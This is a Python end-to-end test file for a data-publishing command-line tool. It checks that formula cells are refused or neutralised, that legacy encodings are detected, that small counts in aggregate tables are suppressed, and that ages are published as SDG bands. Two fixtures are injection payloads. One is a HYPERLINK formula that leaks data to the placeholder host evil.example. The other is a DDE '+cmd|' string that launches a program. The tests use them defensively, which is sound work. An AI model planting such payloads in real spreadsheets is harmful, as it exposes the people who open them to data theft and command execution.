"""The "first publish in one go" issue, through the `cdx` command on a copy of the example:
formula cells, legacy encodings, aggregate tables with several counts, SDG age bands."""

from __future__ import annotations

import csv
import json
import shutil
from pathlib import Path

import pytest
import yaml
from openpyxl import load_workbook

from tests.e2e.test_cli import REPO, cdx

SCORES = Path("data") / "health-scorecard-2026q1.csv"


@pytest.fixture
def workspace(tmp_path: Path) -> Path:
    target = tmp_path / "kenya-lnob"
    shutil.copytree(REPO / "examples" / "kenya-lnob", target, ignore=shutil.ignore_patterns("keys"))
    return target


def set_comment(workspace: Path, row: int, text: str) -> None:
    """Write `text` into the comment column of data row `row` (1 = first data row)."""
    path = workspace / SCORES
    with path.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    rows[row][rows[0].index("comment")] = text
    with path.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle, lineterminator="\n").writerows(rows)


def edit_config(workspace: Path, change: object) -> None:
    path = workspace / "coalition.yaml"
    config = yaml.safe_load(path.read_text(encoding="utf-8"))
    change(config)  # type: ignore[operator]
    path.write_text(yaml.safe_dump(config, allow_unicode=True, sort_keys=False), encoding="utf-8")


def published(tmp_path: Path, dataset: str) -> Path:
    return tmp_path / "catalogue" / "kenya-lnob" / dataset / "1.0.0"


def test_formula_cells_are_refused_then_published_neutralised_and_recorded(
    workspace: Path, tmp_path: Path
) -> None:
    assert cdx("init", ".", cwd=workspace).returncode == 0
    set_comment(workspace, 3, '=HYPERLINK("http://evil.example/?leak","click")')
    set_comment(workspace, 5, "- not applicable")
    refused = cdx("publish", "health-scorecard", cwd=workspace)
    assert refused.returncode == 1  # a failure of the data, as an invalid dataset is
    assert "[source-formula]" in refused.stderr
    assert "row 4, column 9 (`comment`)" in refused.stderr
    assert "formulas: neutralise" in refused.stderr
    assert not (tmp_path / "catalogue").exists()

    edit_config(
        workspace, lambda c: c["datasets"]["health-scorecard"].update(formulas="neutralise")
    )
    done = cdx("publish", "health-scorecard", cwd=workspace)
    assert done.returncode == 0, done.stdout + done.stderr
    package = published(tmp_path, "health-scorecard")
    with (package / "data" / "scores.csv").open(encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows[3][8] == '\'=HYPERLINK("http://evil.example/?leak","click")'
    assert rows[5][8] == "- not applicable"
    provenance = (package / "provenance.jsonld").read_text(encoding="utf-8")
    activity = next(n for n in json.loads(provenance)["@graph"] if "cdx:formulaCells" in n)
    record = activity["cdx:formulaCells"]["scores"]
    assert record["cellsNeutralised"] == 1
    assert record["firstCells"] == [{"row": 4, "column": 9, "field": "comment"}]


def test_a_workbook_text_cell_that_is_a_formula_is_refused(workspace: Path) -> None:
    path = workspace / "data" / "youth-survey-2026.xlsx"
    book = load_workbook(path)
    sheet = book["responses"]
    sheet["A1"].value  # noqa: B018 (the header stays)
    cell = sheet.cell(row=3, column=sheet.max_column)
    cell.value = "+cmd|' /C calc'!A0"
    cell.data_type = "s"
    book.save(path)
    result = cdx("validate", "youth-survey", cwd=workspace)
    assert result.returncode != 0
    assert "[source-formula]" in result.stderr
    assert f"row 3, column {sheet.max_column}" in result.stderr


def french_windows_1252(workspace: Path) -> Path:
    set_comment(workspace, 1, "très loin, accès difficile")
    path = workspace / SCORES
    path.write_bytes(path.read_text(encoding="utf-8").encode("cp1252"))
    return path


def test_the_encoding_advice_is_right_and_a_wrong_declared_one_is_refused(
    workspace: Path,
) -> None:
    path = french_windows_1252(workspace)
    told = cdx("validate", str(path), cwd=workspace)
    assert "[source-encoding]" in told.stderr and "it looks like windows-1252" in told.stderr
    assert "--encoding windows-1252" in told.stderr

    wrong = cdx("validate", str(path), "--encoding", "cp1250", cwd=workspace)
    assert wrong.returncode != 0 and "[source-encoding-mismatch]" in wrong.stderr
    assert "as windows-1250: " in wrong.stderr and "trčs loin, accčs difficile" in wrong.stderr
    assert "très loin, accès difficile" in wrong.stderr
    assert "`encoding: windows-1252`" in wrong.stderr

    right = cdx("validate", str(path), "--encoding", "windows-1252", cwd=workspace)
    assert right.returncode == 0, right.stdout + right.stderr


def test_a_file_that_is_not_utf8_is_refused_naming_the_line_a_person_can_find(
    workspace: Path,
) -> None:
    """Not a byte offset: the line a text editor or a spreadsheet's import shows."""
    set_comment(workspace, 7, "très loin, accès difficile")
    path = workspace / SCORES
    path.write_bytes(path.read_text(encoding="utf-8").encode("cp1252"))
    told = cdx("validate", str(path), cwd=workspace)
    assert told.returncode == 1 and "[source-encoding]" in told.stderr  # the data, not usage
    assert "is not UTF-8 (the first character that is not is on line 8)" in told.stderr
    assert "position" not in told.stderr


def test_following_the_encoding_advice_publishes_the_words_as_written(
    workspace: Path, tmp_path: Path
) -> None:
    assert cdx("init", ".", cwd=workspace).returncode == 0
    french_windows_1252(workspace)
    source = lambda c: c["datasets"]["health-scorecard"]["sources"][0]  # noqa: E731
    edit_config(workspace, lambda c: source(c).update(encoding="cp1250"))
    refused = cdx("publish", "health-scorecard", cwd=workspace)
    assert refused.returncode != 0 and "[source-encoding-mismatch]" in refused.stderr

    edit_config(workspace, lambda c: source(c).update(encoding="windows-1252"))
    done = cdx("publish", "health-scorecard", cwd=workspace)
    assert done.returncode == 0, done.stdout + done.stderr
    data = published(tmp_path, "health-scorecard") / "data" / "scores.csv"
    assert "très loin, accès difficile" in data.read_text(encoding="utf-8")


BARRIERS = """county,group,participants,reported_barrier,share_reporting
Kisumu,women,40,12,0.30
Kisumu,youth,35,1,0.03
Kisumu,persons-with-disabilities,22,2,0.09
Turkana,women,31,14,0.45
Turkana,youth,28,8,0.29
Turkana,persons-with-disabilities,19,11,0.58
"""
BARRIERS_SCHEMA = {
    "fields": [
        {"name": "county", "type": "string", "cdx:role": "safe"},
        {"name": "group", "type": "string", "cdx:role": "safe"},
        {"name": "participants", "type": "integer", "cdx:role": "safe"},
        {"name": "reported_barrier", "type": "integer", "cdx:role": "safe"},
        {"name": "share_reporting", "type": "number", "cdx:role": "safe"},
    ]
}


def test_every_count_of_people_in_an_aggregate_table_is_kept_above_the_threshold(
    workspace: Path, tmp_path: Path
) -> None:
    assert cdx("init", ".", cwd=workspace).returncode == 0
    (workspace / "data" / "barriers.csv").write_text(BARRIERS, encoding="utf-8")
    (workspace / "barriers.schema.json").write_text(json.dumps(BARRIERS_SCHEMA))

    def add(config: dict) -> None:  # type: ignore[type-arg]
        dataset = dict(config["datasets"]["health-scorecard"])
        dataset.pop("schedule")
        dataset["title"] = "Barriers to health services, by county and group"
        dataset["sources"] = [{"path": "data/barriers.csv", "schema": "barriers.schema.json"}]
        dataset["privacy"] = {
            "aggregates": {
                "barriers": {
                    "dimensions": ["county", "group"],
                    "counts": ["participants", "reported_barrier"],
                    "values": ["share_reporting"],
                }
            }
        }
        config["datasets"]["barriers"] = dataset

    edit_config(workspace, add)
    done = cdx("publish", "barriers", cwd=workspace)
    assert done.returncode == 0, done.stdout + done.stderr
    package = published(tmp_path, "barriers")
    with (package / "data" / "barriers.csv").open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    shown = [int(r["reported_barrier"]) for r in rows if r["reported_barrier"]]
    assert shown and min(shown) >= 10  # 1, 2 and 8 hidden, and partners so none is derived
    assert all(r["participants"] for r in rows)  # each count column is protected on its own
    assert all(r["share_reporting"] == "" for r in rows if r["reported_barrier"] == "")
    privacy = json.loads((package / "reports" / "privacy.json").read_text(encoding="utf-8"))
    by_count = privacy["resources"][0]["cellSuppression"]["countColumns"]
    assert by_count["reported_barrier"]["primarySuppressed"] == 3
    assert by_count["participants"]["primarySuppressed"] == 0


def test_sdg_youth_age_bands_are_published_with_a_schema_that_says_so(
    workspace: Path, tmp_path: Path
) -> None:
    assert cdx("init", ".", cwd=workspace).returncode == 0
    edit_config(
        workspace,
        lambda c: c["datasets"]["youth-survey"]["privacy"].update(
            generalise=[
                {"column": "age", "breaks": [0, 15, 25, 65]},
                *c["datasets"]["youth-survey"]["privacy"]["generalise"][1:],
            ]
        ),
    )
    done = cdx("publish", "youth-survey", cwd=workspace)
    assert done.returncode == 0, done.stdout + done.stderr
    package = published(tmp_path, "youth-survey")
    with (package / "data" / "responses.csv").open(encoding="utf-8", newline="") as handle:
        ages = {row["age"] for row in csv.DictReader(handle)}
    assert ages <= {"0-14", "15-24", "25-64", "65+"} and "15-24" in ages
    descriptor = json.loads((package / "datapackage.json").read_text(encoding="utf-8"))
    age = next(f for f in descriptor["resources"][0]["schema"]["fields"] if f["name"] == "age")
    assert age["type"] == "string"
    assert age["title"] == "Age in completed years (bands starting at 0, 15, 25, 65)"
    assert "original integer values are published as bands" in age["description"]
    assert "15-24" in age["description"]
